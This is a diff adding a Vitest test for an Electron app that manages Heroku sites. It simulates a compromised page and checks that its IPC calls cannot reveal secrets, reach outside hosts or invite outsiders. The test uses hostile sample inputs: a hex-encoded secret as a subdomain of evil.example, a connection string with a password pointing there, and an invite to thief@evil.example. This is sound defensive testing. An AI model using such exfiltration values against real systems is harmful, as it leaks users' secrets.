@@ -1,0 +1,146 @@
+import { describe, expect, it } from 'vitest';
+
+import { compose } from '../../electron/composition.ts';
+import type { Core } from '../../electron/core.ts';
+import { callNames, type CallAnswer, type CallInput, type CallName } from '../../electron/contract/calls.ts';
+import type { Result } from '../../electron/contract/result.ts';
+import { guardedCalls } from '../../electron/ipc/guarded-calls.ts';
+import { createHandlers } from '../../electron/ipc/handlers.ts';
+import { createRouter } from '../../electron/ipc/router.ts';
+import type { LastQuestion } from '../../electron/services/acts/removal.ts';
+import { systemClock } from '../../electron/services/clock.ts';
+import { startPractice } from '../../electron/services/practice/practice.ts';
+import { fakeDesktop, fakeFiles, fakePaper, memoryVault } from '../support/app-core.ts';
+import { temporaryFolder } from '../support/temporary.ts';
+
+/** A page whose script went bad. It can make calls, and nothing else. */
+interface HostilePage {
+  readonly core: Core;
+  /** Addresses outside Heroku's that main asked. */
+  readonly reached: readonly string[];
+  readonly asked: readonly LastQuestion[];
+  readonly close: () => Promise<void>;
+  readonly call: <Name extends CallName>(
+    name: Name,
+    input: CallInput<Name>,
+  ) => Promise<Result<CallAnswer<Name>>>;
+}
+
+const page = { isOurMainFrame: true, url: 'app://sitekeeper/index.html' };
+
+/** The app as it is packed, over the real network; the practice world plays Heroku, all else is noted. */
+async function hostilePage(): Promise<HostilePage> {
+  const world = await startPractice({ clock: systemClock });
+  const reached: string[] = [];
+  const asked: LastQuestion[] = [];
+  const core = compose({
+    fetch: async (url, init) => {
+      const { origin, pathname, search } = new URL(url);
+      if (origin === 'https://api.heroku.com') return fetch(world.origin + pathname + search, init);
+      reached.push(url);
+      return Response.json({ message: { message: 'UNAUTHORIZED' } }, { status: 401 });
+    },
+    loopbackFetch: fetch,
+    clock: systemClock,
+    vault: memoryVault(),
+    directory: await temporaryFolder(),
+    emit: () => undefined,
+    files: fakeFiles(),
+    paper: fakePaper(),
+    confirmNatively: async (question) => {
+      asked.push(question);
+      return false;
+    },
+    version: '0',
+    runtime: 'electron',
+    packaged: true,
+    herokuApi: undefined,
+    practice: {},
+  });
+  const desktop = fakeDesktop();
+  const router = createRouter({
+    handlers: createHandlers(core, desktop),
+    origin: 'app://sitekeeper',
+    onBug: core.bug,
+    onRefused: () => undefined,
+  });
+  await core.start();
+  desktop.clipboard = world.key;
+  await router('account.paste', page, undefined);
+  await router('account.keep', page, undefined);
+  return {
+    core,
+    reached,
+    asked,
+    call: (name, input) => router(name, page, input),
+    async close() {
+      await core.close();
+      await world.close();
+    },
+  };
+}
+
+const notAgreed = { ok: false, problem: { code: 'not-agreed', changed: 'no' } };
+
+describe('a bad package in the page, with calls alone', () => {
+  it('gets no secret out, reaches no computer of its own choice and lets nobody in', async () => {
+    const { call, reached, asked, core, close } = await hostilePage();
+    const list = await call('sites.list', { fresh: true });
+    const [site] = list.ok ? list.value.sites : [];
+    const id = site?.id ?? '';
+    const settings = await call('settings.list', { id });
+    const secret = settings.ok ? settings.value.rows.find((row) => row.secret) : undefined;
+    const name = secret?.name ?? '';
+    expect(name).not.toBe('');
+
+    expect(await call('settings.reveal', { id, name })).toEqual(notAgreed);
+    expect(await call('settings.copy', { id, name })).toEqual(notAgreed);
+    const address = `${Buffer.from('a secret').toString('hex')}.evil.example`;
+    expect(await call('data.fromSite', { address, secret: 'x' })).toEqual(notAgreed);
+    const typed = await call('strings.type', {
+      site: null,
+      text: `mongodb+srv://u:pw-7731@${address}/db`,
+    });
+    const string = typed.ok ? typed.value.id : '';
+    expect(await call('strings.test', { string, write: false })).toEqual(notAgreed);
+    expect(await call('strings.reveal', { string })).toEqual(notAgreed);
+    expect(await call('strings.copy', { string })).toEqual(notAgreed);
+    expect(await call('database.measure', { string })).toEqual(notAgreed);
+    expect(await call('people.invite', { id, email: 'thief@evil.example' })).toEqual(notAgreed);
+    const changes = [{ name: 'API_SECRET', kind: 'set', value: 'known to a thief' }] as const;
+    expect(await call('settings.apply', { id, changes })).toEqual(notAgreed);
+    expect(await call('plan.change', { id, size: 'Performance-L' })).toEqual(notAgreed);
+    expect(await call('sites.rename', { id, name: 'a-secret-as-a-name' })).toEqual(notAgreed);
+
+    expect(reached).toEqual([]);
+    expect(asked.map(({ act }) => act)).toContain('invite');
+    expect(core.worlds().flatMap(({ jobs }) => jobs.list())).toEqual([]);
+    await close();
+  });
+
+  it('has no call that is not thought about: each is guarded, or listed here as one that needs no guard', () => {
+    const free = callNames.filter((name) => !Object.hasOwn(guardedCalls, name));
+    expect(free.toSorted()).toEqual(needsNone.toSorted());
+  });
+});
+
+/** They look, they ask in a window of main's own (delete, save, pick a file), or what they do is undone in one press. */
+const needsNone: readonly string[] = `
+  app.snapshot preferences.set links.open practice.enter practice.leave
+  account.paste account.type account.keep account.discard sites.list
+  sites.look sites.open sites.setTitle sites.restart sites.wake
+  sites.detail sites.turnOff sites.turnOn sites.close sites.reopen
+  sites.delete tickets.issue tidy.table tidy.losses plan.list
+  settings.list settings.review copies.lock copies.unlock copies.list
+  copies.save copies.saveAll copies.exportIdentity restore.pick restore.unlock
+  restore.fromCopy versions.list versions.preview people.list people.remove
+  addons.remove jobs.list history.list history.stand shutdown.view
+  shutdown.begin shutdown.go shutdown.tell shutdown.own shutdown.turnOff
+  shutdown.startAgain shutdown.stop shutdown.check shutdown.extras shutdown.end
+  shutdown.receipt strings.ofSite strings.find strings.pick strings.unlock
+  strings.paste strings.type strings.pasteAnswer strings.answer strings.stopTest
+  strings.saveCopy wizards.open wizards.keep wizards.end room.ticket
+  room.undo work.list work.stop
+`
+  .trim()
+  .split(/\s+/);
